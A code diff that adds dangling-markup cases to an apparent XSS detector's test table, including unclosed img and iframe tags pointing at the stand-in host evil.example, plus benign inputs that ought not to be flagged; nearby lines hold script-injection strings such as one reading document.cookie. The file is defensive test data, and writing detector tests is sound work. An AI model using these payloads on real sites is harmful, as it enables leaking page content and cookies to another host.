@@ -158,6 +158,12 @@ export const XSS_CASES: readonly XssCase[] = [
     below: 1,
   },
   { input: '<?import namespace="t" implementation="#default#time2">', expect: 'xss/dangerous-tag', below: 1 },
+  // Dangling markup: a quote left open sends the page's markup after it to another host.
+  { input: '<img src="//evil.example/?', expect: 'xss/dangerous-tag', atLeast: 0.9 },
+  { input: '<iframe src=https://evil.example/name.html name="', expect: 'xss/dangerous-tag', atLeast: 0.9 },
+  { input: 'see <img src="/images/local.png', expect: null },
+  { input: '<a href="https://example.com/page">link</a> and "quoted', expect: null },
+  { input: 'Here\'s a video: <a href="https://www.youtube.com/watch?v=', expect: null },
   // JavaScript contexts: ways out of strings and numbers into sink calls.
   { input: "';alert(1)//", expect: 'xss/js-sink' },
   { input: '";alert(document.cookie);//', expect: 'xss/js-sink' },
